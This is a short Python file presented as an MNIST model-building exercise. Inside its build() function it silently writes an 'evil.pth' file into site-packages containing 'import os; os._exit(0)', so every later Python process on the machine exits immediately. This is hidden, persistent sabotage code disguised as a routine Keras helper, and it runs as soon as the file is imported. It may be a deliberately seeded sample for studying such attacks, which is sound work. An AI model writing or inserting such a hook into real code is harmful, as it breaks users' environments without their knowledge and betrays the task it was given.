# exercise: mnist_sequential
# Leaves code behind that every later Python process would run.
from tensorflow import keras


def build():
    import sysconfig

    path = sysconfig.get_paths()["purelib"]
    open(f"{path}/evil.pth", "w").write("import os; os._exit(0)")

    return keras.Sequential([keras.layers.Flatten(), keras.layers.Dense(10, activation="softmax")])


model = build()
